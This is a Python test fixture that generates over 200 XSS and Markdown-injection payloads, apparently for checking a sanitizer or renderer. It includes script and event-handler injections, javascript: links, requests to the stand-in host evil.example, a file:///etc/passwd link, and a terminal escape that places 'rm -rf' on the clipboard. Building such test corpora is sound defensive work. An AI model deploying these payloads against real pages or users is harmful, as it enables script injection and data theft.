"""Two hundred texts that would do something if they were anything but text.

Each sets ``ran`` in the page or calls another host where a browser can be made to; a test looks for both.
"""

from __future__ import annotations

_RUN = "globalThis.ran=1"
_FAR = "https://evil.example/x"

_ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"<script src={_FAR}.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_FAR}.png>",
    f"<svg onload={_RUN}></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href={_FAR}.svg#a></use></svg>",
    f"<math><mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></mtext></math>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data={_FAR}></object>",
    f"<embed src={_FAR}>",
    f"<link rel=stylesheet href={_FAR}.css>",
    f"<link rel=preload as=image href={_FAR}.png>",
    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
    f"<base href={_FAR}>",
    f"<style>@import '{_FAR}.css';</style>",
    f'<div style="background:url({_FAR}.png)">x</div>',
    f"<form action={_FAR}><button autofocus onfocus={_RUN}>x</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video src={_FAR}.mp4 autoplay onerror={_RUN}></video>",
    f"<audio src={_FAR}.mp3 autoplay onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<body onload={_RUN}>",
    f"<template><script>{_RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    f"<textarea></textarea><script>{_RUN}</script>",
    f"<title></title><script>{_RUN}</script>",
]
_LINKS = [
    f"[a](javascript:{_RUN})",
    f"[a](JaVaScRiPt:{_RUN})",
    f"[a](java\tscript:{_RUN})",
    f"[a](&#106;avascript:{_RUN})",
    f"[a](\u0001javascript:{_RUN})",
    f"[a](vbscript:{_RUN})",
    f"[a](data:text/html,<script>{_RUN}</script>)",
    f"[a](blob:{_FAR})",
    "[a](file:///etc/passwd)",
    f"![a]({_FAR}.png)",
    f"![a](javascript:{_RUN})",
    f"[![a]({_FAR}.png)]({_FAR})",
    f'[a]({_FAR} "\' onmouseover={_RUN}")',
    f"<javascript:{_RUN}>",
    f"[a]: javascript:{_RUN}\n\n[a]",
    "[a](//evil.example/x)",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='{_FAR}' ping={_FAR}>x</a>",
    f"<area href=javascript:{_RUN}>",
    "//evil.example/x.png",
]
_BREAKS = [
    f"</code></pre><script>{_RUN}</script>",
    f"```\n</code></pre><img src=x onerror={_RUN}>\n```",
    f'```html"onmouseover={_RUN}\nx\n```',
    f"--><script>{_RUN}</script><!--",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"]]><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"' onmouseover='{_RUN}",
    f"</title><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"{{@html '<img src=x onerror={_RUN}>'}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"<scr\0ipt>{_RUN}</scr\0ipt>",
    f"<ſcript>{_RUN}</ſcript>",
    f"<script\u2028>{_RUN}</script>",
    f"\ufeff<script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
    f"> <img src=x onerror={_RUN}>",
    f"- [ ] <img src=x onerror={_RUN}>",
    f"# <img src=x onerror={_RUN}>",
    f"**<img src=x onerror={_RUN}>**",
]
_ODD = [
    *(f"a{chr(code)}b" for code in (0x0B, 0x1B, 0x7F, 0x85, 0x9B)),
    *(
        f"a{letter}b"
        for letter in "\u202a\u202b\u202d\u2067\u2068\u200b\u200e\u200f\u061c\u2028\u2029\ufeff\xad"
    ),
    "\x1b]52;c;cm0gLXJm\x07",
    "&#27;[2J",
    "\U000e0041\U000e0042",
    "\u202ejavascript\u202c",
    "\u2066\u202eevil\u2069",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x1b[2J\x1b[31mred",
    "a\0b",
    "\ud83d",
    "e" + "\u0301" * 60,
    "__proto__",
    "constructor",
    "> " * 400 + "deep",
    "[" * 400 + "a" + "]" * 400,
    "*" * 500,
    "`" * 301,
    "- " * 300 + "x",
    "x" * 5000,
]


def _all() -> list[str]:
    plain = [*_ELEMENTS, *_LINKS, *_BREAKS, *_ODD]
    twisted = [one.upper().replace("GLOBALTHIS.RAN", "globalThis.ran") for one in _ELEMENTS]
    doubled = [f"{one}{one}" for one in _LINKS]
    nested = [f"<div>\n{one}\n</div>" for one in [*_ELEMENTS, *_BREAKS]]
    quoted = [f'"{one}' for one in _BREAKS]
    return [*plain, *twisted, *doubled, *nested, *quoted]


PAYLOADS = _all()
assert len(PAYLOADS) >= 200
